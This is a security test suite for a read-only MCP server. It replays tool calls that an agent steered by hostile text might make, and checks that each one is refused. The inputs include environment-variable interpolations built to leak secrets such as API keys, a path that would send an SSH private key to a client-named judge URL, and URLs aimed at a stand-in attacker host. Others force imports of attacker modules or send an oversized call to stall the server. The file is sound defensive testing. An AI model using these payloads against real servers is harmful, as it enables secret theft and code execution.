"""Attacks on a read-only MCP server (no --allow-launch), played through the real MCP SDK client over stdio.

A read-only server must make no network call, import no user module, resolve no interpolation the client
sent, read no file outside its two roots and return no secret. Each attack below is one tool call an agent
steered by hostile text could make; the catcher (an HTTP server on loopback) stands for the attacker's
host, marker modules stand for attacker code (importing one writes a file), and the server's environment
holds secrets under the kinds of names people use. Every attack succeeded on 6a33f62 unless its test says
otherwise (docs/SECURITY.md).

One server session plays every attack (module fixture), then each test checks one of them.
"""

from __future__ import annotations

import asyncio
import json
import secrets
import shutil

import pytest

from helpers import ROOT
from helpers.catcher import Catcher
from helpers.loop_apps import OPENAI
from helpers.mcp_client import call, session

TINY = ["model=tiny", "profile=smoke"]
LABELLED = ROOT / "tests" / "data" / "support_replies_other_shop.jsonl"
# secret-looking environment variables of the server, and a non-secret one
ENV_SECRETS = {name: f"{name.lower()}-{secrets.token_hex(10)}" for name in
               ("SOME_SECRET", "RUNPOD_API_KEY", "GITHUB_PAT", "HF_AUTH", "API_KEY_2", "DB_PASSWORD")}
PRIVATE = "PRIVATE-KEY-" + secrets.token_hex(12)  # a file in the server's $HOME, outside both roots
MARKER_MODULE = """import os, pathlib
pathlib.Path(os.environ["LW_MARKERS"], __name__ + "." + str(os.getpid())).touch()
def grade(prompts=None, completions=None, **kw):
    return [1.0] * len(completions or [])
class Env:
    pass
"""
EVIL_MODULES = ("lw_evil_compose", "lw_evil_env", "lw_evil_improve")


def markers(world, module: str) -> list[str]:
    return sorted(p.name for p in world["markers"].iterdir() if p.name.startswith(module + "."))


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    base = tmp_path_factory.mktemp("readonly")
    outputs, home, mods, marks, outside = (base / n for n in ("outputs", "home", "mods", "markers", "outside"))
    for d in (outputs, home / ".ssh", mods, marks, outside):
        d.mkdir(parents=True)
    (home / ".ssh" / "id_test").write_text(PRIVATE + "\n")
    for name in EVIL_MODULES:
        (mods / f"{name}.py").write_text(MARKER_MODULE)
    shutil.copy(OPENAI[0], outside / "chats.jsonl")
    (outside / "rubric.txt").write_text(PRIVATE + "\n")
    leaky = outputs / "runs" / "leaky"
    leaky.mkdir(parents=True)
    (leaky / "manifest.json").write_text(json.dumps({"status": "failed", "error": f"boom {ENV_SECRETS['HF_AUTH']}"}))
    (leaky / "train.log").write_text(f"connecting with {ENV_SECRETS['GITHUB_PAT']}\n"
                                     f"Authorization: Bearer {ENV_SECRETS['API_KEY_2']}\n")
    env = {**ENV_SECRETS, "HOME": str(home), "LW_MARKERS": str(marks), "LW_UP": "../outside/chats.jsonl",
           "PYTHONPATH": f"{ROOT / 'src'}:{mods}"}
    catcher = Catcher().start()
    url = catcher.url
    judge = [f"reward.base_url={url}/judge/v1", "reward.model=x", "reward.api_key_env=SOME_SECRET",
             "reward.rubric_file=${oc.env:HOME}/.ssh/id_test"]

    async def attacks() -> dict:
        out: dict = {}
        async with session(outputs, env=env) as client:
            async def c(name: str, tool: str, **args) -> None:
                out[name] = await call(client, tool, **args)

            await c("interp_notes", "compose_config", overrides=[*TINY, "notes=${oc.env:SOME_SECRET}"])
            await c("interp_error", "compose_config", overrides=[*TINY, "profile.max_steps=${oc.env:SOME_SECRET}"])
            await c("interp_dict", "compose_config", overrides=[*TINY, "+extra={k:${oc.env:GITHUB_PAT}}"])
            await c("plan_graphql", "plan_job", overrides=["provider=runpod", "provider.gpu_type=x",
                                                           f"provider.graphql_url={url}/graphql"])
            await c("calibration", "compose_config", overrides=[
                *TINY, "reward=judge", f"reward.base_url={url}/calib/v1", "reward.model=x",
                f"reward.calibration={LABELLED}"])
            await c("vllm_probe", "compose_config", overrides=[
                *TINY, "rollout=vllm_server", f"rollout.base_url={url}/vllm", "profile.device=cuda"])
            await c("target_compose", "compose_config", overrides=[*TINY, "reward._target_=lw_evil_compose.grade"])
            await c("target_env", "compose_config", overrides=[*TINY, "task.multi_turn=true",
                                                               "task.environment._target_=lw_evil_env.Env"])
            await c("dict_path", "compose_config", overrides=[
                *TINY, "reward=judge", "reward.base_url=http://127.0.0.1:9/v1", "reward.model=x",
                f"reward.params={{rubric_file:{outside / 'rubric.txt'}}}"])
            await c("ingest", "ingest", inputs=[str(OPENAI[0])], output=str(outputs / "t"), format="openai")
            await c("ingest_interp", "ingest", inputs=[str(outputs) + "/${oc.env:LW_UP}"],
                    output=str(outputs / "t_up"), format="openai")
            await c("improve_judge", "improve", transcripts=str(outputs / "t"), output=str(outputs / "i"),
                    reward="judge", overrides=judge)
            await c("improve_target", "improve", transcripts=str(outputs / "t"), output=str(outputs / "i2"),
                    overrides=["reward._target_=lw_evil_improve.grade"])
            await c("improve_option", "improve", transcripts=str(outputs / "t"), output=str(outputs / "i3"),
                    reward="${oc.env:SOME_SECRET}")
            # inside the per-string (20,000) and per-list (500) bounds, 9.75 M characters in all: on main the
            # server spent ~26 s of CPU in Hydra's override parser on it, every later call waiting
            await c("oversize_call", "compose_config", overrides=[f"+k{i}=" + "x" * 19_900 for i in range(490)])
            await c("log_tail", "run_status", run_dir=str(leaky), log_lines=20)
            await c("list_runs", "list_runs")
        return out

    try:
        out = asyncio.run(attacks())
    finally:
        catcher.stop()
    out.update(catcher=catcher, markers=marks, outputs=outputs, outside=outside)
    return out


def leaked(reply) -> list[str]:
    """The names of the secrets (environment values, the private file) that a reply carries."""
    found = [n for n, v in ENV_SECRETS.items() if v in reply.text]
    return found + (["$HOME/.ssh/id_test"] if PRIVATE in reply.text else [])


def refused(reply, *words: str) -> bool:
    return reply.is_error and "refused: " in reply.error and all(w in reply.error for w in words)


def test_an_env_interpolation_in_an_override_is_refused_and_no_value_comes_back(world):
    for name in ("interp_notes", "interp_error", "interp_dict"):
        reply = world[name]
        assert leaked(reply) == [], (name, reply)
        assert refused(reply, "${", "interpolation"), (name, reply)
    assert "(notes)" in world["interp_notes"].error and "(profile.max_steps)" in world["interp_error"].error


def test_plan_job_sends_nothing_to_a_graphql_url_the_client_names(world):
    assert world["catcher"].under("/graphql") == []
    assert refused(world["plan_graphql"], "provider.graphql_url"), world["plan_graphql"]


def test_validation_in_the_server_calls_no_judge_for_the_calibration_gate_and_probes_no_rollout_server(world):
    assert world["catcher"].under("/calib") == [] and world["catcher"].under("/vllm") == []
    assert refused(world["calibration"], "reward.base_url") and refused(world["vllm_probe"], "rollout.base_url")


def test_no_user_module_is_imported_from_a_target_key(world):
    for module, name in (("lw_evil_compose", "target_compose"), ("lw_evil_env", "target_env"),
                         ("lw_evil_improve", "improve_target")):
        assert markers(world, module) == [], f"{module} was imported ({name})"
        assert refused(world[name], "_target_", "--allow-code-execution"), world[name]


def test_improve_sends_no_key_and_no_file_to_a_judge_the_client_names(world):
    catcher, reply = world["catcher"], world["improve_judge"]
    assert catcher.under("/judge") == [], "the judge endpoint of the client was called"
    assert not catcher.seen(ENV_SECRETS["SOME_SECRET"]) and not catcher.seen(PRIVATE)
    assert leaked(reply) == [] and refused(reply), reply
    assert world["ingest"].data["exit_code"] == 0  # the example logs were ingested: improve had rows to grade


def test_an_option_name_or_a_path_argument_cannot_carry_an_interpolation(world):
    assert refused(world["improve_option"], "reward", "${"), world["improve_option"]
    reply = world["ingest_interp"]
    assert refused(reply, "inputs", "${"), reply
    assert not (world["outputs"] / "t_up" / "transcripts.jsonl").exists()


def test_a_path_inside_a_dict_value_is_root_checked(world):
    reply = world["dict_path"]
    assert refused(reply, "outside the") or refused(reply, "reward.base_url"), reply
    assert str(world["outside"]) not in json.dumps(reply.data or {})


def test_secret_values_from_the_environment_never_come_back_in_a_log_tail_or_error(world):
    reply = world["log_tail"]
    assert not reply.is_error, reply
    assert leaked(reply) == [], leaked(reply)
    assert "connecting with ***REDACTED***" in reply.data["log"]["tail"]
    assert reply.data["error"] == "boom ***REDACTED***"
    for name, r in world.items():
        if hasattr(r, "text"):
            assert leaked(r) == [], (name, leaked(r))


def test_a_call_carrying_millions_of_characters_is_refused_before_any_parsing(world):
    from loopwright.mcp_tools.server import MAX_CALL_CHARS

    assert refused(world["oversize_call"], "overrides",
                   f"more than {MAX_CALL_CHARS} characters"), world["oversize_call"]
    assert not world["list_runs"].is_error  # the next call is answered
